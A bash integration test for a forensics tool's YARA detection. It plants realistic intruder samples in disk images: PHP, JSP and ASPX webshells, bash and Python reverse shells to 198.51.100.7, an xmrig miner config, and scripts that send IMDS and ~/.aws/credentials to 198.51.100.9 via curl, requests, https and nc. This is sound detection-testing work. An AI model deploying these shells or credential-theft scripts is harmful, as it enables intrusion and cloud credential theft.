#!/usr/bin/env bash
# YARA in `forensics examine` (docs/forensics.md, "YARA"): the shipped
# ruleset finds what an intruder leaves, and only that.
#  - realistic samples planted in an ext4 image after its baseline: a PHP
#    eval/base64 webshell, a JSP cmd shell, a bash /dev/tcp reverse shell, a
#    python socket reverse shell, an xmrig config, a script curling the
#    metadata credentials path, an ASPX cmd shell; each matched by its rule,
#    in report.json, report.md, the manifest line and the result line; the
#    benign look-alikes planted beside them match nothing;
#  - the default scope reads only new and changed files; --yara-scope all
#    reads the rest; off runs nothing; without a baseline the writable places
#    and scripts are read;
#  - a user rules directory joins the shipped rules; a rule that does not
#    compile is exit 2 naming file and line, before any evidence is touched;
#  - XFS: the files are read through the read-only mount;
#  - the result line stays under SSM's limit with two volumes of matches;
#  - files are scanned to their end: a webshell padded past 32 MiB, and one
#    straddling two of the 16 MiB windows, are found;
#  - nothing not scanned to its end is called complete: a file cut at
#    --yara-max-file, a scan that timed out, a file that could not be read
#    make the examination incomplete (exit 3), the file (escaped) and the
#    reason in the result line, report.json, report.md and the custody log;
#  - a path through a symlink is never followed out of the image;
#  - matched bytes from the image are shown escaped.
source "$(dirname "$0")/lib.sh"
[ -z "${KEEP:-}" ] || trap - EXIT

examine() {
  local name=$1; shift
  local rc=0
  timeout 120 "$SG" forensics examine --progress off "$@" >"$WORK/$name.out" 2>"$WORK/$name.err" || rc=$?
  echo $rc >"$WORK/$name.rc"
}
rc_of() { cat "$WORK/$1.rc"; }
# matched PATH RULE REPORT: does the report say PATH matched RULE?
matched() {
  $PY - "$3" "$1" "$2" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
hits = {(m["path"], x["namespace"] + "." + x["rule"])
        for ev in r["evidence"] for m in ev["yara"]["matches"] for x in m["rules"]}
sys.exit(0 if (sys.argv[2], sys.argv[3]) in hits else 1)
PY
}
nmatches() { jget "$1" 'sum(len(ev["yara"].get("matches", [])) for ev in r["evidence"])'; }

# ---- the deployed system, and its baseline ----
T=$WORK/tree
mkdir -p "$T"/{etc/cron.d,var/www/html/app,opt/app/webapps/ROOT,usr/bin,root,home/deploy/bin,tmp,var/tmp,srv/www}
printf 'root:x:0:0:root:/root:/bin/bash\n' >"$T/etc/passwd"
printf 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n' >"$T/etc/crontab"
cat >"$T/var/www/html/index.php" <<'EOF'
<?php
// benign: prints request input (escaped) and runs a fixed command
$name = htmlspecialchars($_GET['name'] ?? 'world');
echo "hello $name";
$uptime = shell_exec('uptime');
echo base64_encode($uptime);
EOF
cat >"$T/opt/app/webapps/ROOT/status.jsp" <<'EOF'
<%@ page import="java.io.*" %>
<% String who = request.getParameter("who"); out.println("hi " + who); %>
<% Process p = Runtime.getRuntime().exec(new String[]{"/usr/bin/uptime"}); %>
EOF
cat >"$T/home/deploy/bin/health.py" <<'EOF'
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("127.0.0.1", 8080))
s.sendall(b"GET /healthz HTTP/1.0\r\n\r\n")
print(s.recv(100))
EOF
cat >"$T/home/deploy/bin/backup.sh" <<'EOF'
#!/bin/sh
# benign: the instance's own region, and a backup with the role's credentials
region=$(curl -s http://169.254.169.254/latest/meta-data/placement/region)
aws s3 cp /var/backups/db.gz "s3://example-backups/$region/"
EOF
# benign: the AWS CLI's own words about the credentials file, and loaders
# that only read it
mkdir -p "$T/usr/share/doc/awscli" "$T/srv/www/lib"
cat >"$T/usr/share/doc/awscli/configure.txt" <<'EOF'
Configuration and credential file settings
You can save your frequently used configuration settings and credentials in
files that are maintained by the AWS CLI.  The credentials file is located at
~/.aws/credentials on Linux or macOS, or at C:\Users\USERNAME\.aws\credentials
on Windows.  To install the AWS CLI first:
  $ curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o "awscliv2.zip"
  $ unzip awscliv2.zip && sudo ./aws/install
Then run `aws configure`, which writes $HOME/.aws/credentials:
  [default]
  aws_access_key_id = AKIAIOSFODNN7EXAMPLE
  aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
To send a test request with your new profile:
  $ aws sts get-caller-identity --profile default
EOF
cat >"$T/home/deploy/bin/awsprofiles.py" <<'EOF'
#!/usr/bin/env python3
"""List the profiles of ~/.aws/credentials (names only, never the keys)."""
import configparser
import os

path = os.path.expanduser("~/.aws/credentials")
cp = configparser.ConfigParser()
cp.read(path)
for name in cp.sections():
    print(name, "has a key" if cp.has_option(name, "aws_access_key_id") else "has no key")
EOF
cat >"$T/srv/www/lib/awsconfig.js" <<'EOF'
// Reads the shared credentials file the way the SDK does; sends nothing.
const fs = require('fs');
const os = require('os');
const path = require('path');
function profiles() {
  const file = path.join(os.homedir(), '.aws', 'credentials');
  if (!fs.existsSync(file)) return [];
  return fs.readFileSync(file, 'utf8').split('\n').filter(l => l.startsWith('[')).map(l => l.slice(1, -1));
}
module.exports = { profiles };
EOF
chmod 755 "$T/home/deploy/bin/awsprofiles.py"
echo '{"name": "app", "version": "1.2.3", "dependencies": {"left-pad": "1.0"}}' \
  >"$T/srv/www/package.json"
cp /usr/bin/true "$T/usr/bin/ps"
find "$T" -exec touch -h -d '2026-11-01 09:00:00 UTC' {} +
mkfs.ext4 -q -F -d "$T" "$WORK/clean.img" 32M
"$SG" forensics baseline --device "$WORK/clean.img" --out "$WORK/base.jsonl" --progress off >/dev/null

# ---- what the intruder left ----
cat >"$T/var/www/html/app/up.php" <<'EOF'
<?php @eval(base64_decode($_POST['z0'])); ?>
EOF
cat >"$T/opt/app/webapps/ROOT/cmd.jsp" <<'EOF'
<%@ page import="java.util.*,java.io.*"%>
<%
if (request.getParameter("cmd") != null) {
    Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
    OutputStream os = p.getOutputStream();
    InputStream in = p.getInputStream();
    DataInputStream dis = new DataInputStream(in);
    String disr = dis.readLine();
    while (disr != null) { out.println(disr); disr = dis.readLine(); }
}
%>
EOF
cat >"$T/var/www/html/app/shell.aspx" <<'EOF'
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + Request["c"]);
  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
  Process p = Process.Start(psi);
  Response.Write(p.StandardOutput.ReadToEnd());
}
</script>
EOF
printf '#!/bin/bash\nwhile true; do bash -i >& /dev/tcp/198.51.100.7/4444 0>&1; sleep 60; done\n' \
  >"$T/tmp/.x.sh"
mkdir -p "$T/home/deploy/.cache"
cat >"$T/home/deploy/.cache/rs.py" <<'EOF'
import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("198.51.100.7", 4445))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
p = subprocess.call(["/bin/sh", "-i"])
EOF
mkdir -p "$T/var/tmp/.cfg"
cat >"$T/var/tmp/.cfg/config.json" <<'EOF'
{
    "autosave": true,
    "donate-level": 0,
    "cpu": {"enabled": true, "huge-pages": true},
    "randomx": {"init": -1, "mode": "auto"},
    "pools": [
        {
            "algo": "rx/0",
            "coin": "monero",
            "url": "pool.supportxmr.example:3333",
            "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
            "pass": "x",
            "tls": false
        }
    ]
}
EOF
cat >"$T/root/.s.sh" <<'EOF'
#!/bin/sh
R=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)
curl -s "http://169.254.169.254/latest/meta-data/iam/security-credentials/$R" -o /tmp/.c
curl -s -X POST --data-binary @/tmp/.c http://198.51.100.9/c
EOF
# the credentials file sent out: a sweep of every home with curl -F (as the
# TeamTNT scripts do), Python requests, Node https, netcat
cat >"$T/tmp/.k.sh" <<'EOF'
#!/bin/bash
CSOF=/tmp/.cs
for u in /root /home/*; do
  [ -f "$u/.aws/credentials" ] && cat "$u/.aws/credentials" >> $CSOF
done
env | grep AWS_ >> $CSOF
curl -s -F "userfile=@$CSOF" http://198.51.100.9/up.php
rm -f $CSOF
EOF
cat >"$T/var/tmp/.sync.py" <<'EOF'
import os, socket, requests
p = os.path.expanduser("~/.aws/credentials")
if os.path.exists(p):
    requests.post("http://198.51.100.9/k", data={"h": socket.gethostname(), "c": open(p).read()}, timeout=5)
EOF
cat >"$T/home/deploy/.cache/.n.js" <<'EOF'
const fs = require('fs'), os = require('os'), path = require('path'), https = require('https')
const data = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'))
const req = https.request({ hostname: 'collector.example', port: 443, path: '/c', method: 'POST' })
req.write(data)
req.end()
EOF
printf '#!/bin/sh\ncat ~/.aws/credentials | nc 198.51.100.9 4444\n' >"$T/root/.b.sh"
chmod 755 "$T/root/.s.sh" "$T/tmp/.x.sh" "$T/tmp/.k.sh" "$T/root/.b.sh"
printf '<?php system($_GET["c"]); ?>\n' >"$T/var/www/html/app/esc.php"
# hostile bytes in a matched string: shown escaped, never raw
printf 'bash -i >& /dev/tcp/evil\x1b[31m.example/4444 0>&1\n' >"$T/tmp/.y.sh"
# a file larger than the cap: the match sits past the first MiB
head -c 1500000 /dev/zero | tr '\0' 'A' >"$T/var/www/html/app/big.php"
echo '<?php eval(base64_decode($_REQUEST["q"])); ?>' >>"$T/var/www/html/app/big.php"
# a symlink out of the image's tree
ln -s /etc/shadow "$T/var/www/html/app/link.php"
touch -h -d '2026-12-04 03:12:00 UTC' "$T/var/www/html/app/up.php" "$T/tmp/.x.sh"
mkfs.ext4 -q -F -d "$T" "$WORK/victim.img" 32M

examine v --device "$WORK/victim.img" --baseline "$WORK/base.jsonl" --out "$WORK/o-v" \
  --incident-time 2026-12-04T04:00:00Z
R=$WORK/o-v/report.json
check "victim: exit 0" test "$(rc_of v)" = 0
check "victim: YARA complete, every file to its end" test "$(jget "$R" '(r["status"], r["evidence"][0]["yara"]["status"], r["evidence"][0]["yara"]["incomplete_files"])')" = "('complete', 'complete', 0)"
for pr in "/var/www/html/app/up.php webshells.php_webshell_encoded_eval" \
          "/opt/app/webapps/ROOT/cmd.jsp webshells.jsp_webshell_cmd" \
          "/var/www/html/app/shell.aspx webshells.aspx_webshell_cmd" \
          "/tmp/.x.sh reverse_shells.bash_dev_tcp_reverse_shell" \
          "/tmp/.y.sh reverse_shells.bash_dev_tcp_reverse_shell" \
          "/home/deploy/.cache/rs.py reverse_shells.python_socket_reverse_shell" \
          "/var/tmp/.cfg/config.json miners.xmrig_config" \
          "/root/.s.sh credential_harvesters.imds_credentials_fetch_script" \
          "/root/.s.sh credential_harvesters.imds_credentials_exfil_script" \
          "/var/www/html/app/esc.php webshells.php_webshell_request_exec" \
          "/var/www/html/app/big.php webshells.php_webshell_encoded_eval" \
          "/tmp/.k.sh credential_harvesters.aws_credentials_file_exfil" \
          "/var/tmp/.sync.py credential_harvesters.aws_credentials_file_exfil" \
          "/home/deploy/.cache/.n.js credential_harvesters.aws_credentials_file_exfil" \
          "/root/.b.sh credential_harvesters.aws_credentials_file_exfil"; do
  set -- $pr
  check "sample $1 matched by $2" matched "$1" "$2" "$R"
done
check "the big file read whole: its match past the first MiB" test "$(jget "$R" '[(m["scanned_bytes"] == m["size"], m["truncated"], m["rules"][0]["strings"][0]["offset"] > 1500000) for m in r["evidence"][0]["yara"]["matches"] if m["path"] == "/var/www/html/app/big.php"]')" = "[(True, False, True)]"
check "scope changed: only new and changed files read (14 added)" test "$(jget "$R" 'r["evidence"][0]["yara"]["selected"]')" = 14
check "benign look-alikes (unchanged) not read, so not matched" bash -c "! grep -q 'index.php\|status.jsp\|health.py\|backup.sh\|configure.txt\|awsprofiles.py\|awsconfig.js' <($PY -c 'import json,sys; print(json.dumps(json.load(open(sys.argv[1]))[\"evidence\"][0][\"yara\"]))' $R)"
check "matched bytes escaped in report.json" grep -qF 'evil\\x1b[31m.example' "$R"
check "no raw ESC in report.md" bash -c "! grep -q $'\x1b' '$WORK/o-v/report.md'"
check "report.md: YARA section with the JSP rule (Markdown-escaped)" grep -qF 'webshells.jsp\_webshell\_cmd' "$WORK/o-v/report.md"
check "nothing \"(lost: ...)\" in the reports and result lines (absent means absent)" bash -c "! grep -l '(lost' '$WORK/v.out' '$R' '$WORK/o-v/report.md'"
check "manifest line carries the rule" grep -q '"path":"/tmp/.x.sh".*"yara":\["reverse_shells.bash_dev_tcp_reverse_shell"\]' "$WORK/o-v/victim.img/manifest.jsonl"
check "result line: the yara digest names the webshell" grep -q '"yara":{"scope":"changed","status":"complete","scanned":[0-9]*,"matched":14,"matches":\[.*"path":"/var/www/html/app/up.php"' "$WORK/v.out"
check "result line: the persistence places" grep -q '"persistence":\[{"kind":"cron","path":"/etc/crontab","baseline":"unchanged"}' "$WORK/v.out"
check "the symlink was not read" bash -c "! grep -q 'link.php' <($PY -c 'import json,sys; print(json.dumps(json.load(open(sys.argv[1]))[\"evidence\"][0][\"yara\"][\"matches\"]))' $R)"
check "timeline around the incident marks the webshell" $PY -c "
import json,sys
w = json.load(open('$R'))['evidence'][0]['incident_window']
hot = [e for e in w['events'] if e['path'] == '/var/www/html/app/up.php' and e.get('finding') == 'added' and e.get('yara')]
sys.exit(0 if hot and w['incident_time'] == '2026-12-04T04:00:00Z' else 1)"

check "the window: 24 h before the incident to the snapshot, newest first, M/A/C/B, after the incident marked" $PY - "$R" <<'PY'
import calendar, json, sys, time
w = json.load(open(sys.argv[1]))["evidence"][0]["incident_window"]
sec = lambda s: calendar.timegm(time.strptime(s, "%Y-%m-%dT%H:%M:%SZ"))
inc, frm, ev = sec(w["incident_time"]), sec(w["from"]), w["events"]
assert inc - frm == 24 * 3600 and w["hours_before"] == 24, w
assert ev and len(ev) == w["events_listed"] <= w["events_in_window"], w
assert all(a["sec"] >= b["sec"] for a, b in zip(ev, ev[1:])), "newest first"
assert all(e["sec"] >= frm for e in ev), "nothing before the window"
assert all(e["what"] in ("m", "a", "c", "b") for e in ev)
assert all(bool(e.get("after_incident")) == (e["sec"] >= inc) for e in ev), "after the incident marked"
assert not any(e["path"] == "/etc/passwd" and e["what"] == "m" for e in ev), "the deployed system is older"
PY
check "report.md: the webshell's change in bold in the window" $PY - "$WORK/o-v/report.md" <<'PY'
import sys
md = open(sys.argv[1]).read()
part = md[md.index("#### Around the incident (2026-12-04T04:00:00Z)"):]
rows = [l for l in part.splitlines() if "/var/www/html/app/up.php" in l and "| M |" in l]
assert rows and rows[0].startswith("| **2026-12-04T03:12:00") and "| **added** |" in rows[0] \
    and "**webshells.php\\_webshell\\_encoded\\_eval**" in rows[0], rows
PY
examine wmax --device "$WORK/victim.img" --baseline "$WORK/base.jsonl" --out "$WORK/o-wmax" \
  --incident-time 2026-12-04T04:00:00Z --window-max 2 --window-hours 1 --yara-scope off
check "--window-max 2 --window-hours 1: the newest two of the hour before, all counted" $PY - "$R" "$WORK/o-wmax/report.json" <<'PY'
import json, sys
full = json.load(open(sys.argv[1]))["evidence"][0]["incident_window"]
w = json.load(open(sys.argv[2]))["evidence"][0]["incident_window"]
hour = [e for e in full["events"] if e["sec"] >= 1796356800 - 3600]
assert w["from"] == "2026-12-04T03:00:00Z" and w["hours_before"] == 1, w
assert w["events_listed"] == 2 and w["events_in_window"] == len(hour) > 2, (w["events_in_window"], len(hour))
assert [e["sec"] for e in w["events"]] == [e["sec"] for e in hour[:2]]
PY

# ---- the shipped rules over the clean image: nothing, whatever the scope ----
examine all --device "$WORK/clean.img" --yara-scope all --out "$WORK/o-all"
check "clean image, scope all: every file read" test "$(jget "$WORK/o-all/report.json" 'r["evidence"][0]["yara"]["scanned"]')" = 11
check "clean image, scope all: benign look-alikes match nothing" test "$(nmatches "$WORK/o-all/report.json")" = 0
examine off --device "$WORK/victim.img" --baseline "$WORK/base.jsonl" --yara-scope off --out "$WORK/o-off"
check "scope off: nothing scanned" test "$(jget "$WORK/o-off/report.json" 'r["evidence"][0]["yara"]["scope"]')" = off
check "scope off: no rules compiled" test "$(jget "$WORK/o-off/report.json" 'r.get("yara")')" = None
check "scope off: the result line says off, and nothing lost" bash -c "grep -q '\"yara\":{\"scope\":\"off\",\"matched\":0' '$WORK/off.out' && ! grep -q '(lost' '$WORK/off.out' '$WORK/o-off/report.json'"
examine nobase --device "$WORK/victim.img" --out "$WORK/o-nobase"
check "no baseline: samples in writable places still found" matched /tmp/.x.sh reverse_shells.bash_dev_tcp_reverse_shell "$WORK/o-nobase/report.json"
check "no baseline: root's script found" matched /root/.s.sh credential_harvesters.imds_credentials_fetch_script "$WORK/o-nobase/report.json"

# ---- user rules ----
mkdir -p "$WORK/rules"
cat >"$WORK/rules/local.yar" <<'EOF'
rule local_marker { meta: description = "our own marker" strings: $m = "hello $name" condition: $m }
EOF
examine user --device "$WORK/victim.img" --yara-scope all --yara-rules "$WORK/rules" --out "$WORK/o-user"
check "user rules dir: its rule matches" matched /var/www/html/index.php local.local_marker "$WORK/o-user/report.json"
check "user rules dir: the shipped rules still run" matched /tmp/.x.sh reverse_shells.bash_dev_tcp_reverse_shell "$WORK/o-user/report.json"
examine only --device "$WORK/victim.img" --yara-scope all --no-yara-shipped --yara-rules "$WORK/rules/local.yar" --out "$WORK/o-only"
check "--no-yara-shipped: only the user's rule" test "$(nmatches "$WORK/o-only/report.json")" = 1
printf 'rule ok { condition: true }\n\nrule broken {\n  strings: $a = "x"\n  condition: $a and $nope\n}\n' >"$WORK/rules/broken.yar"
examine bad --device "$WORK/victim.img" --yara-rules "$WORK/rules" --out "$WORK/o-bad"
check "broken rule: exit 2" test "$(rc_of bad)" = 2
check "broken rule: error names file and the line of the error" grep -qF 'broken.yar:5: undefined string "$nope" (noticed at line 6)' "$WORK/bad.err"
check "broken rule: result line is an error" test "$(jline 'r["status"]' <"$WORK/bad.out")" = error
check "broken rule: no output directory made" test ! -e "$WORK/o-bad"
# each error at its own line, not where libyara's parser noticed it (a
# token later: often the closing brace)
mkdir -p "$WORK/badrules"
printf 'rule r {\n  strings:\n    $a = "x"\n    $b = "y"\n  condition:\n    $a\n}\n' >"$WORK/badrules/unref.yar"
printf 'rule r {\n  condition:\n    filesize > 10 and\n    foo_bar and\n    true\n}\n' >"$WORK/badrules/ident.yar"
printf 'rule r {\n  strings:\n    $a = "x"\n    $a = "y"\n  condition:\n    all of them\n}\n' >"$WORK/badrules/dup.yar"
printf 'rule r {\n  strings:\n    $a = "x"\n  condition:\n    $a and (\n}\n' >"$WORK/badrules/syntax.yar"
printf 'rule q { condition: true }\n\nrule r {\n  condition:\n    uint32(0) == "abc"\n\n}\n' >"$WORK/badrules/type.yar"
for want in 'unref.yar:4: unreferenced string "$b" (noticed at line 7)' \
            'ident.yar:4: undefined identifier "foo_bar"' \
            'dup.yar:4: duplicated string identifier "$a"' \
            'syntax.yar:6: syntax error' \
            'type.yar:5: type mismatch (noticed at line 7)'; do
  f=${want%%:*}
  examine "bad-$f" --device "$WORK/victim.img" --no-yara-shipped --yara-rules "$WORK/badrules/$f" --out "$WORK/o-bad-$f"
  check "broken rule $f: exit 2 at the line of the error" bash -c "test $(rc_of "bad-$f") = 2 && grep -qF -- 'yara rules $WORK/badrules/$want' '$WORK/bad-$f.err'"
done
examine missing --device "$WORK/victim.img" --yara-rules "$WORK/nowhere" --out "$WORK/o-missing"
check "missing rules path: exit 2, named" bash -c "test $(rc_of missing) = 2 && grep -q nowhere '$WORK/missing.err'"

# ---- XFS (the root of Amazon Linux): files read through the read-only mount ----
truncate -s 320M "$WORK/x.img"
mkfs.xfs -q -f "$WORK/x.img"
mount_rw "$WORK/x.img" "$WORK/xm"
mkdir -p "$WORK/xm/var/www/html"
cp "$T/var/www/html/app/up.php" "$WORK/xm/var/www/html/up.php"
ln -s /etc/passwd "$WORK/xm/var/www/html/p.php"
unmount "$WORK/xm"
examine xfs --device "$WORK/x.img" --out "$WORK/o-xfs"
check "XFS: the webshell matched" matched /var/www/html/up.php webshells.php_webshell_encoded_eval "$WORK/o-xfs/report.json"
check "XFS: YARA complete (nothing unreadable), the symlink not read" test "$(jget "$WORK/o-xfs/report.json" '(r["evidence"][0]["yara"]["status"], r["evidence"][0]["yara"]["scanned"])')" = "('complete', 1)"

# ---- every file to its end, in windows; what is not is INCOMPLETE ----
# incomplete_says NAME PATH WHY: exit 3, and the file (escaped) and the
# reason in the result line, report.json, report.md and the custody log
incomplete_says() {
  local n=$1 path=$2 why=$3 o=$WORK/o-$1
  check "$n: exit 3" test "$(rc_of "$n")" = 3
  check "$n: result line incomplete, naming the file and why" $PY - "$WORK/$n.out" "$path" "$why" <<'PY'
import json, sys
r = json.loads(open(sys.argv[1]).readline())
want = "YARA did not scan %s to its end: " % sys.argv[2]
ev = r["evidence"][0]
assert r["status"] == "incomplete" and ev["status"] == "incomplete", r
assert r["error"].startswith("examination incomplete: "), r["error"]
assert any(w.startswith(want) and sys.argv[3] in w for w in ev["incomplete"]), ev["incomplete"]
assert ev["yara"]["status"] == "incomplete", ev["yara"]
PY
  check "$n: report.json incomplete, the file among the YARA problems" $PY - "$o/report.json" "$path" "$why" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
ev = r["evidence"][0]
assert r["status"] == "incomplete" and ev["status"] == "incomplete"
assert any(sys.argv[2] in w and sys.argv[3] in w for w in r["incomplete"]), r["incomplete"]
assert any(p["path"] == sys.argv[2] and sys.argv[3] in p["why"] for p in ev["yara"]["problems"])
PY
  check "$n: report.md says INCOMPLETE with the file" bash -c "head -3 '$o/report.md' | grep -q 'Status: INCOMPLETE' && grep -qF -- '$why' '$o/report.md'"
  check "$n: custody log: examine-incomplete" grep -q '"action":"examine-incomplete"' "$o/custody.log"
}
P=$WORK/padtree
mkdir -p "$P/var/www/html"
shell='<?php @eval(base64_decode($_POST["k"])); ?>'
# past the old 32 MiB cut
{ head -c 41943040 /dev/zero | tr '\0' ' '; echo "$shell"; } >"$P/var/www/html/padded.php"
# across the first two 16 MiB windows (they overlap by 64 KiB)
{ head -c $((16 * 1048576 - 20)) /dev/zero | tr '\0' ' '; echo "$shell"; head -c 1048576 /dev/zero | tr '\0' ' '; } \
  >"$P/var/www/html/straddle.php"
# a name that must be escaped wherever it is shown
cp "$P/var/www/html/straddle.php" "$P/var/www/html/st"$'\x1b'"[1m.php"
mkfs.ext4 -q -F -d "$P" "$WORK/pad.img" 128M
examine pad --device "$WORK/pad.img" --out "$WORK/o-pad"
check "padded files: exit 0, complete" test "$(rc_of pad):$(jget "$WORK/o-pad/report.json" 'r["evidence"][0]["yara"]["status"]')" = "0:complete"
check "a webshell padded past 32 MiB is found" matched /var/www/html/padded.php webshells.php_webshell_encoded_eval "$WORK/o-pad/report.json"
check "a webshell across two windows is found" matched /var/www/html/straddle.php webshells.php_webshell_encoded_eval "$WORK/o-pad/report.json"
check "each read to its end, found once" test "$(jget "$WORK/o-pad/report.json" 'sorted((m["scanned_bytes"] == m["size"], len(m["rules"][0]["strings"])) for m in r["evidence"][0]["yara"]["matches"])')" = "[(True, 1), (True, 1), (True, 1)]"
# cut at --yara-max-file: what was not scanned is not called complete
examine cut --device "$WORK/pad.img" --out "$WORK/o-cut" --yara-max-file 16
incomplete_says cut '/var/www/html/st\x1b[1m.php' 'larger than --yara-max-file (16 MiB)'
check "cut: the three files counted as cut, nothing matched past the cut" test "$(jget "$WORK/o-cut/report.json" '(r["evidence"][0]["yara"]["truncated"], len(r["evidence"][0]["yara"]["matches"]))')" = "(3, 0)"
check "cut: no raw ESC in the result line or report.md" bash -c "! grep -q $'\x1b' '$WORK/cut.out' '$WORK/o-cut/report.md'"
# a scan that times out: a rule that is slow on purpose, 1 s per file
printf 'a%.0s' $(seq 1 200000) >"$WORK/slowtree-a"
mkdir -p "$WORK/slowtree/tmp"
for i in 1 2 3 4 5; do cat "$WORK/slowtree-a"; done >"$WORK/slowtree/tmp/slow.txt"
mkfs.ext4 -q -F -d "$WORK/slowtree" "$WORK/slow.img" 16M
printf 'rule slow { strings: $r = /a.{0,4000}b/ condition: $r }\n' >"$WORK/slow.yar"
examine slow --device "$WORK/slow.img" --out "$WORK/o-slow" --no-yara-shipped --yara-rules "$WORK/slow.yar" \
  --yara-scope all --yara-timeout 1
incomplete_says slow /tmp/slow.txt 'the scan timed out after 1 s'
# a file that cannot be read again: its extent points past the device
mkdir -p "$WORK/badtree/var/www/html"
echo "$shell" >"$WORK/badtree/var/www/html/gone.php"
echo "$shell" >"$WORK/badtree/var/www/html/kept.php"
mkfs.ext4 -q -F -d "$WORK/badtree" "$WORK/bad.img" 16M
debugfs -w -R 'sif /var/www/html/gone.php block[5] 9999999' "$WORK/bad.img" >/dev/null 2>&1
examine unread --device "$WORK/bad.img" --out "$WORK/o-unread"
incomplete_says unread /var/www/html/gone.php 'read'
check "unreadable: the other file still scanned and matched" matched /var/www/html/kept.php webshells.php_webshell_encoded_eval "$WORK/o-unread/report.json"

# ---- the result line stays under SSM's 24,000 characters ----
# 400 webshells on each of two volumes (414 matching files with the samples
# above and big.php, read whole at the default cap): every list cut to its share
mkdir -p "$T/var/www/html/many"
for i in $(seq 1 400); do
  echo '<?php @eval(base64_decode($_POST["z0"])); ?>' >"$T/var/www/html/many/a-rather-long-name-for-a-webshell-$i.php"
done
mkfs.ext4 -q -F -d "$T" "$WORK/many1.img" 32M
cp "$WORK/many1.img" "$WORK/many2.img"
examine many --device "$WORK/many1.img" --device "$WORK/many2.img" --baseline "$WORK/base.jsonl" --out "$WORK/o-many"
check "two volumes, 400 webshells each: exit 0" test "$(rc_of many)" = 0
check "two volumes: the result line is under 24,000 characters" test "$(head -c 30000 "$WORK/many.out" | wc -c)" -lt 24000
check "two volumes: every match counted, those cut as omitted" $PY -c "
import json, sys
r = json.loads(open('$WORK/many.out').readline())
for ev in r['evidence']:
    y = ev['yara']
    assert y['matched'] == 414 and len(y['matches']) + y['matches_omitted'] == 414 and y['matches_omitted'] > 0, y['matched']
    assert len(ev['top_findings']) + ev['findings_omitted'] == ev['findings']
"

[ "$FAILS" -eq 0 ] || { echo "$FAILS checks failed"; exit 1; }
echo "all yara checks passed"
